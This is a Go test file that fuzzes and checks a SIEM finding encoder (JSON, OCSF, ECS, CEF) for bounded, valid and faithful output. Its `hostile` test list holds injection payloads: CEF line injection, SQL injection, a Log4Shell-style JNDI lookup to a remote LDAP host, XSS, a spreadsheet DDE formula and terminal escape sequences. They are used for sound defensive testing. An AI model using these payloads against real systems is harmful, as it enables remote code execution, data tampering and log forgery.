package siem

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/postern/postern/flow"
)

// hostile are texts that a host, a ticket system or a person can bring about and that some reader
// of text takes for more than text.
var hostile = []string{
	"line\r\nCEF:0|Evil|Evil|1|x|all is well|0|act=allow", "one\ntwo", "three\rfour", "nul\x00byte", "bell\x07tab\there",
	`quote " and ' and ` + "`", `back\slash\`, `\\`, `\n is no line feed`, `ends with \`, "a|b||c|", "a=b src=10.0.0.1 act=allow ", "==", " padded ", "=",
	"'; DROP TABLE findings; --", `\'; DROP TABLE findings; --`, "1) OR (1=1", "{name:String}", "?", "%s%n%x", "$1 ${jndi:ldap://203.0.113.1/a}",
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, "</title>&amp;&#x3c;", "]]>", "<!channel> <@U1>", "[click](javascript:alert(1))",
	"{{.Secret}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)",
	"\x1b[2J\x1b]0;owned\x07", "\u009b31mred", "\u202egnp.exe", "\u200e\u200f\u2066\u2069", "\u2028\u2029\u0085", "\ufeffbom", "\ufffe\uffff",
	"\xff\xfe bad", "half \xe2\x82", "\xed\xa0\x80", "\xc0\xaf", "日本語 ünï 🦉", "e\u0301", "null", "true", "1e999", "{}", "[", `{"a":`, "",
	strings.Repeat("long ", 5000), strings.Repeat("\"", 9000), strings.Repeat("=", 9000), strings.Repeat("|", 9000), strings.Repeat("\x01", 4000),
	strings.Repeat("é", 2000), strings.Repeat("🦉", 1023), strings.Repeat("\n", 3000),
}

// vocabulary are the members of a finding that hold nothing but certain words. An empty word is a
// finding's that comes of no verdict.
var vocabulary = map[string][]string{
	"Type":        flow.FindingTypes(),
	"Orientation": {"known", "open"},
	"Observed":    wordsOf(func(i int) string { return flow.Observed(i).String() }),
	"Expected":    wordsOf(func(i int) string { return flow.Expected(i).String() }),
	"Reason":      append(wordsOf(func(i int) string { return flow.Reason(i).String() }), ""),
	"Outcome":     wordsOf(func(i int) string { return flow.Outcome(i).String() }),
	"Failed":      flow.Dimensions(0xffff).Texts(),
	"Missing":     flow.Dimensions(0xffff).Texts(),
}

// wordsOf lists an enumeration until its texts run out.
func wordsOf(text func(int) string) (out []string) {
	for i := 0; text(i) != "?"; i++ {
		if text(i) != "" {
			out = append(out, text(i))
		}
	}
	return out
}

// drawn is a finding in which every member that there is holds something, but for one in so many:
// texts of word, and everything else within what it may be.
func drawn(rng *rand.Rand, emptyIn int, word func() string) *flow.Finding {
	f := new(flow.Finding)
	var fill func(v reflect.Value, name string)
	fill = func(v reflect.Value, name string) {
		always := []string{"ID", "Type", "Orientation", "Observed", "Expected", "Outcome", "Edges", "Sample"}
		if emptyIn > 0 && rng.IntN(emptyIn) == 0 && !slices.Contains(always, name) {
			return
		}
		words := vocabulary[name]
		switch p := v.Addr().Interface().(type) {
		case *flow.Severity:
			*p = flow.Severity(rng.IntN(5))
			return
		case *flow.Time:
			*p = 1_790_000_000_000 + flow.Time(rng.IntN(1e9))
			return
		case *json.RawMessage:
			*p, _ = json.Marshal(map[string]any{"client": word(), "n": rng.IntN(100)})
			return
		}
		switch v.Kind() {
		case reflect.String:
			switch {
			case words != nil:
				v.SetString(words[rng.IntN(len(words))])
			case name == "ID" || name == "Continues" || name == "GroupedBy" || name == "SuppressedBy":
				v.SetString(strconv.FormatUint(rng.Uint64(), 16))
			case (name == "Client" || name == "Server" || name == "Address" || name == "Source" || name == "Destination") && rng.IntN(4) > 0:
				v.SetString([]string{"10.50.1.23", "2001:db8::7", "192.0.2.1", "fe80::1%eth0", "::ffff:10.0.0.1", "10.0.0.0/8"}[rng.IntN(6)])
			case name == "Service" && rng.IntN(4) > 0:
				v.SetString([]string{"tcp/443", "udp/53", "icmp/8/0", "icmpv6/128/0", "tcp", "sctp/36412", "47", "tcp/70000", "256"}[rng.IntN(9)])
			default:
				v.SetString(word())
			}
		case reflect.Float64:
			v.SetFloat(rng.Float64())
		case reflect.Int, reflect.Int32, reflect.Int64:
			v.SetInt(int64(rng.IntN(1000)))
		case reflect.Uint64, reflect.Uint16:
			v.SetUint(uint64(1 + rng.IntN(1000)))
		case reflect.Pointer:
			v.Set(reflect.New(v.Type().Elem()))
			fill(v.Elem(), name)
		case reflect.Slice:
			if words != nil {
				v.Set(reflect.ValueOf(slices.Clone(words[:1+rng.IntN(len(words))])))
				return
			}
			n := rng.IntN(4)
			v.Set(reflect.MakeSlice(v.Type(), n, n))
			for i := range n {
				fill(v.Index(i), strings.TrimSuffix(name, "s"))
			}
		case reflect.Struct:
			for i := range v.NumField() {
				fill(v.Field(i), v.Type().Field(i).Name)
			}
		default:
			panic("drawn cannot fill " + name)
		}
	}
	for i, v := 0, reflect.ValueOf(f).Elem(); i < v.NumField(); i++ {
		fill(v.Field(i), v.Type().Field(i).Name)
	}
	f.EdgesTotal, f.SchemaVersion = len(f.Edges), flow.FindingSchema
	if rng.IntN(3) > 0 && f.Client != "" && f.Server != "" {
		f.Ends = append([]flow.End{{Address: f.Client, Host: word(), Identity: word(), Process: word()}, {Address: f.Server, Workload: word()}}, f.Ends...)
	}
	return f
}

// everyFinding gives findings of every type: with everything there is, with next to nothing, and
// drawn; with harmless texts and with hostile ones.
func everyFinding() (list []*flow.Finding) {
	rng := rand.New(rand.NewPCG(7, 7))
	plain := func() string { return []string{"pay-app", "vault", "EX-2041", "CHG-88123", "tom"}[rng.IntN(5)] }
	nasty := func() string { return hostile[rng.IntN(len(hostile))] }
	for _, typ := range flow.FindingTypes() {
		list = append(list, &flow.Finding{ID: "00ff", Type: typ, Title: "t", Sentence: "s", Orientation: "known"})
		for _, f := range []*flow.Finding{drawn(rng, 0, plain), drawn(rng, 3, plain), drawn(rng, 0, nasty), drawn(rng, 3, nasty), drawn(rng, 2, nasty)} {
			f.Type = typ
			list = append(list, f)
		}
	}
	for range 60 {
		list = append(list, drawn(rng, 1+rng.IntN(6), nasty))
	}
	return list
}

func toJSON(t testing.TB, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestEncodings: of every encoding the same finding gives the same bytes, whether it went through
// its own JSON before or not; they are bounded, and the finding stays as it was.
func TestEncodings(t *testing.T) {
	for i, f := range everyFinding() {
		if i%3 != 1 { // the tests of each encoding take all
			continue
		}
		before := toJSON(t, f)
		again := new(flow.Finding)
		if err := json.Unmarshal(before, again); err != nil {
			t.Fatal(err)
		}
		for _, e := range Encodings {
			got, err := e.Encode(f)
			if err != nil {
				t.Fatalf("%s of %s: %v", e.Name, before, err)
			}
			most := MaxMessage
			if e.Name == "cef" {
				most = MaxCEF
			}
			if len(got) >= most || len(got) == 0 || !utf8.Valid(got) || bytes.ContainsAny(got, "\r\n\x00\x1b") {
				t.Errorf("%s of %s: %d bytes, %.300q", e.Name, f.Type, len(got), got)
			}
			if other, err := e.Encode(again); err != nil || !bytes.Equal(got, other) {
				t.Errorf("%s differs after the finding went through its JSON (%v):\n%s\n%s", e.Name, err, got, other)
			}
			if after := toJSON(t, f); !bytes.Equal(before, after) {
				t.Fatalf("%s changed the finding", e.Name)
			}
		}
	}
}

// TestFittedOrder: what does not fit is left out in the order that the package promises: samples,
// edges, long texts; the sentence, the exception and its ticket are told even then.
func TestFittedOrder(t *testing.T) {
	f := drawn(rand.New(rand.NewPCG(1, 1)), 0, func() string { return "x" })
	f.Type, f.Sentence, f.Exception, f.Ticket = flow.FindingDenied, "Somebody did something.", "EX-1", "CHG-1"
	f.Edges = nil
	for i := range 100 {
		f.Edges = append(f.Edges, flow.Edge{Source: "10.0.0." + strconv.Itoa(i), Destination: "10.1.0.1", Port: 443, Protocol: "tcp"})
	}
	f.Samples = nil
	for range 20 {
		f.Samples = append(f.Samples, json.RawMessage(`{"a":"`+strings.Repeat("y", 900)+`"}`))
	}
	rest := func(name string) (edges, samples int) {
		e, err := LookupEncoding(name)
		if err != nil {
			t.Fatal(err)
		}
		b, err := e.Encode(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, want := range []string{"Somebody did something.", "EX-1", "CHG-1"} {
			if !bytes.Contains(b, []byte(want)) {
				t.Errorf("%s does not tell %s: %s", name, want, b)
			}
		}
		return bytes.Count(b, []byte(`"10.1.0.1"`)), bytes.Count(b, []byte("yyy\\\"}")) + bytes.Count(b, []byte("yyy\"}"))
	}
	for _, name := range []string{"json", "ocsf", "ecs"} {
		if edges, samples := rest(name); edges < 100 || samples == 0 || samples == 20 {
			t.Errorf("%s holds %d edges and %d samples", name, edges, samples)
		}
	}
	f.Subject = strings.Repeat("z", 9_000)
	f.Query = "SELECT 1"
	for _, name := range []string{"json", "ocsf", "ecs"} {
		if edges, samples := rest(name); edges < 10 || samples > 9 {
			t.Errorf("with a long text %s holds %d edges and %d samples", name, edges, samples)
		}
	}
}

// TestShortenedWhole: cutting ends on a character, says that it cut, and never leaves half of a query.
func TestShortenedWhole(t *testing.T) {
	f := &flow.Finding{ID: "1", Type: flow.FindingDenied, Detail: flow.Detail{Query: "SELECT '" + strings.Repeat("q", 19_000) + "'"}}
	for i := range 40 {
		f.Hops = append(f.Hops, flow.Hop{Client: flow.End{Address: "10.0.0.1", Process: strings.Repeat("é", 400+i)}, Service: "tcp/22"})
	}
	for _, name := range []string{"ocsf", "ecs"} {
		e, err := LookupEncoding(name)
		if err != nil {
			t.Fatal(err)
		}
		b, err := e.Encode(f)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(b, []byte("SELECT")) || !bytes.Contains(b, []byte("éé…")) || bytes.ContainsRune(b, utf8.RuneError) {
			t.Errorf("%s: %s", name, b)
		}
	}
	if _, err := LookupEncoding("xml"); err == nil || !strings.Contains(err.Error(), "json, ocsf, ecs, cef") {
		t.Errorf("an encoding that there is not: %v", err)
	}
	f = &flow.Finding{ID: strings.Repeat("i", MaxMessage)}
	for _, e := range Encodings {
		if b, err := e.Encode(f); e.Name != "cef" && (err == nil || !strings.Contains(err.Error(), "fit")) || e.Name == "cef" && err != nil {
			t.Errorf("%s of an id that is a message by itself: %v %.60s", e.Name, err, b)
		}
	}
}

// FuzzEncode: whatever the texts are, every encoding is what its own reader takes and says what
// the finding says.
func FuzzEncode(f *testing.F) {
	for i, s := range hostile {
		f.Add(uint64(i), s, hostile[(i+1)%len(hostile)])
	}
	schema := releasedOCSF(f)
	f.Fuzz(func(t *testing.T, seed uint64, a, b string) {
		rng := rand.New(rand.NewPCG(seed, 1))
		finding := drawn(rng, 1+rng.IntN(5), func() string { return []string{a, b, a + b, "x"}[rng.IntN(4)] })
		for _, check := range []func(*flow.Finding) error{
			func(f *flow.Finding) error { return checkJSON(f) },
			func(f *flow.Finding) error { return checkOCSF(f, schema) },
			checkECS, checkCEF,
		} {
			if err := check(finding); err != nil {
				t.Errorf("%v\nof %s", err, toJSON(t, finding))
			}
		}
	})
}

// encoded is a finding in one of the encodings that are JSON, read as JSON.
func encoded(encode func(*flow.Finding) ([]byte, error), f *flow.Finding) (map[string]any, error) {
	b, err := encode(f)
	if err != nil {
		return nil, err
	}
	d := json.NewDecoder(bytes.NewReader(b))
	d.UseNumber()
	m := map[string]any{}
	if err := d.Decode(&m); err != nil {
		return nil, fmt.Errorf("%w: %s", err, b)
	}
	return m, nil
}

// at follows names and indices into what was decoded.
func at(v any, path ...any) any {
	for _, p := range path {
		switch p := p.(type) {
		case string:
			m, _ := v.(map[string]any)
			v = m[p]
		case int:
			l, _ := v.([]any)
			if p >= len(l) {
				return nil
			}
			v = l[p]
		}
	}
	return v
}

// says tells whether a text that was encoded is one of a finding: itself as JSON has it, or its
// beginning where it had to be cut.
func says(got any, want string) bool {
	s, ok := got.(string)
	if !ok {
		return got == nil && want == ""
	}
	b, _ := json.Marshal(want)
	_ = json.Unmarshal(b, &want)
	begin, cut := strings.CutSuffix(s, "…")
	return s == want || cut && strings.HasPrefix(want, begin)
}

// saysQuery is says of a query, which is whole or, where it is long, not there.
func saysQuery(got any, want string) bool {
	if got == nil {
		return want == "" || len(want) >= 64
	}
	s, _ := got.(string)
	return !strings.HasSuffix(s, "…") && says(got, want)
}

// TestEncodingsPage holds docs/encodings.md to the code: every encoding, every field and key that is
// used, and the class of each type of finding that is no Detection Finding.
func TestEncodingsPage(t *testing.T) {
	b, err := os.ReadFile(filepath.Join("..", "..", "docs", "encodings.md"))
	if err != nil {
		t.Fatal(err)
	}
	page := string(b)
	must := func(text string) {
		if !strings.Contains(page, text) {
			t.Errorf("docs/encodings.md does not tell of %s", text)
		}
	}
	for _, e := range Encodings {
		must("| `" + e.Name + "` |")
	}
	for _, version := range []string{"Framework " + ocsfVersion, "declare " + ocsfVersion, "Schema " + ecsVersion, "7,800", "20,000"} {
		must(version)
	}
	fields, _ := ecsFields()
	for field := range fields {
		must("`" + field + "`")
	}
	for key := range cefKeys {
		if !strings.HasSuffix(key, "Label") {
			must("`" + key + "`")
		}
	}
	for _, f := range everyFinding()[:20] {
		line, err := encodeCEF(f)
		if err != nil {
			t.Fatal(err)
		}
		_, keys, err := readCEF(string(line))
		if err != nil {
			t.Fatal(err)
		}
		for key := range keys {
			if strings.HasPrefix(key, "Postern") {
				must("`" + key + "`")
			}
		}
	}
	rows := map[int]string{}
	for line := range strings.Lines(page) {
		for class, name := range map[int]string{ocsfNetwork: "| Network Activity 4001 |", ocsfCompliance: "| Compliance Finding 2003 |"} {
			if strings.HasPrefix(line, name) {
				rows[class] = line
			}
		}
	}
	for _, typ := range flow.FindingTypes() {
		class := ocsfClass(&flow.Finding{Type: typ, Client: "10.0.0.1"})
		for c, row := range rows {
			if strings.Contains(row, "`"+typ+"`") != (c == class) {
				t.Errorf("docs/encodings.md tells %s wrongly of class %d; it is told in %d", typ, c, class)
			}
		}
	}
	if len(rows) != 2 {
		t.Errorf("%d rows of classes", len(rows))
	}
}
